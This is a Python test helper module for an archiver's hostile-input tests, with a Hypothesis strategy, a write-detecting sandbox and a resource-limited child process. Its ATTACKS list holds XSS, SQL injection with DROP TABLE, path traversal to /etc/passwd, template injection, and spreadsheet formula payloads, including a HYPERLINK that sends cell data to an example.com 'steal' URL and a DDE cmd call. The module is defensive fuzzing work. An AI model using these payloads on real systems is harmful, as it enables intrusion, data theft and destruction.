"""Helpers of the hostile-input tests: attack strings, a sandbox that notices any file
written outside the work area, the one accepted outcome of a load, PDF text."""

from __future__ import annotations

import contextlib
import json
import os
import resource
import select
import signal
import subprocess
import tempfile
import time
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from hypothesis import strategies as st

from archiver.errors import InputError, ValidationFailed
from archiver.load import load_dataset

# What people (or an attacker with a register account) can type into any text field.
LONG_WORD = "".join(chr(ord("A") + i % 26) for i in range(5000))
ATTACKS = (
    '<b>pogrubione</b><script>alert("x")</script>',
    '<img src="file:///etc/passwd"><link rel="stylesheet" href="http://example.com/a.css">',
    '<style>@import url("http://example.com/x.css"); body{display:none}</style>',
    '<div style="background:url(http://example.com/x.png)">tło</div>',
    "file:///etc/shadow http://example.com/track.png https://example.com/?q=1",
    '=HYPERLINK("http://example.com/steal?d="&A1,"kliknij")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "@SUM(1,1)",
    "-2+3",
    "\u202eRTL override\u202c then text",
    "שלום עליכם مرحبا",
    "e\u0301\u0327\u0308 Z\u0336\u0335\u0334a\u0489l\u0489g\u0489o\u0489",
    "emoji 😀🦄👨‍👩‍👧 🇵🇱",
    "bell\x07 escape\x1b[31m red \x1b]0;title\x07 back\x08space\x7f del\x85nel",
    "tab\tand\x0bvertical\x0cform feed",
    "&amp; &lt;not a tag&gt; &#x3C;script&#x3E; ]]> <![CDATA[x]]>",
    "{{ 7*7 }} {% raw %}jinja{% endraw %} ${7*7} %s %(x)s",
    "' OR '1'='1'; DROP TABLE students; --",
    "../../../etc/passwd",
)
CONTROL_CHARS = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\x7f"


def hostile_text(min_size: int = 0) -> st.SearchStrategy[str]:
    """Any text a loader could meet: random Unicode, the attacks, very long fields."""
    return st.one_of(
        st.text(min_size=min_size, max_size=40),
        st.text(st.characters(codec="utf-8"), min_size=min_size, max_size=200),
        st.sampled_from(ATTACKS),
        st.builds(lambda c, n: c * n, st.sampled_from(["x", "ą", "\x00", "\"", ",", "\n"]),
                  st.integers(1000, 200_000)),
    )


# -- the sandbox ---------------------------------------------------------------------


def snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    """Every file and folder under `folder` with its size and modification time."""
    found: dict[str, tuple[int, int]] = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(root) / name
            try:
                stat = path.lstat()
            except FileNotFoundError:
                continue
            found[str(path.relative_to(folder))] = (stat.st_size, stat.st_mtime_ns)
    return found


@dataclass
class Sandbox:
    """root/ holds a sentinel file and work/; inputs go in work/input, the process runs
    with cwd work/cwd and TMPDIR work/tmp. `check()` asserts that nothing appeared or
    changed outside what the test itself wrote."""

    root: Path

    @property
    def work(self) -> Path:
        return self.root / "work"

    @property
    def input(self) -> Path:
        return self.work / "input"

    @property
    def tmp(self) -> Path:
        return self.work / "tmp"

    def freeze(self) -> None:
        self._before = snapshot(self.root)

    def check(self) -> None:
        after = snapshot(self.root)
        added = sorted(set(after) - set(self._before))
        changed = sorted(k for k in set(after) & set(self._before) if after[k] != self._before[k])
        assert not added and not changed, f"written outside the loader's reach: {added + changed}"


@contextlib.contextmanager
def sandbox() -> Iterator[Sandbox]:
    """A fresh sandbox per example (hypothesis cannot use function-scoped fixtures)."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        box = Sandbox(Path(name))
        (box.root / "sentinel.txt").write_text("the parent of the work area\n")
        for folder in (box.input, box.tmp, box.work / "cwd"):
            folder.mkdir(parents=True)
        previous = tempfile.tempdir
        tempfile.tempdir = str(box.tmp)
        try:
            with contextlib.chdir(box.work / "cwd"):
                yield box
        finally:
            tempfile.tempdir = previous


def load_outcome(path: Path) -> str:
    """Load `path`: "ok", "invalid" (ValidationFailed) or "unreadable" (InputError), each
    with a one-line message; any other exception propagates and fails the test."""
    try:
        dataset, _report = load_dataset(path)
    except ValidationFailed as exc:
        assert exc.message and "\n" not in exc.message, exc.message
        assert exc.report.errors, "ValidationFailed without a problem"
        return "invalid"
    except InputError as exc:
        assert exc.message and "\n" not in exc.message, exc.message
        return "unreadable"
    assert dataset.meta.school.id
    return "ok"


def isolated(fn: Callable[[], str], *, seconds: float = 120,
             memory: int = 6 * 1024**3) -> str:
    """Run `fn` in a forked child with a memory cap and a time limit; return its result.

    A reader written in C or Rust can abort the whole process or allocate without bound
    on a crafted file; in a child that shows as a failed test, not a dead test runner.
    Exceptions from `fn` come back re-raised with their traceback as text.
    """
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        code = 0
        try:
            os.close(read_end)
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
            try:
                message = ("ok", fn())
            except BaseException as exc:  # noqa: BLE001 - everything goes back to the parent
                message = ("raised", "".join(traceback.format_exception(exc)))
            os.write(write_end, json.dumps(message).encode())
        except BaseException:  # noqa: BLE001
            code = 70
        finally:
            os._exit(code)
    os.close(write_end)
    deadline = time.monotonic() + seconds
    chunks: list[bytes] = []
    try:
        while True:  # read until the child closes the pipe (it exits), or time is up
            left = deadline - time.monotonic()
            if left <= 0:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
                raise AssertionError(f"the loader did not finish within {seconds:.0f} s")
            if select.select([read_end], [], [], left)[0]:
                chunk = os.read(read_end, 1 << 16)
                if not chunk:
                    break
                chunks.append(chunk)
    finally:
        os.close(read_end)
    _, status = os.waitpid(pid, 0)
    answer = b"".join(chunks)
    if os.WIFSIGNALED(status):
        raise AssertionError(f"the loader killed its process with signal "
                             f"{signal.Signals(os.WTERMSIG(status)).name}")
    kind, value = json.loads(answer or b'["raised", "the child exited without an answer"]')
    if kind == "raised":
        raise AssertionError(f"the loader raised:\n{value}")
    return value


def load_in_sandbox(box: Sandbox, path: Path) -> str:
    """Load `path` placed in the sandbox (in a child process) and check that nothing was
    written anywhere."""
    box.freeze()
    result = isolated(lambda: load_outcome(path))
    box.check()
    return result


def pdf_text(pdf: bytes) -> str:
    """The text of a PDF as poppler's pdftotext extracts it (an independent reader)."""
    with tempfile.NamedTemporaryFile(suffix=".pdf") as handle:
        handle.write(pdf)
        handle.flush()
        done = subprocess.run(["pdftotext", "-enc", "UTF-8", handle.name, "-"],
                              capture_output=True, check=True)
    return done.stdout.decode("utf-8")
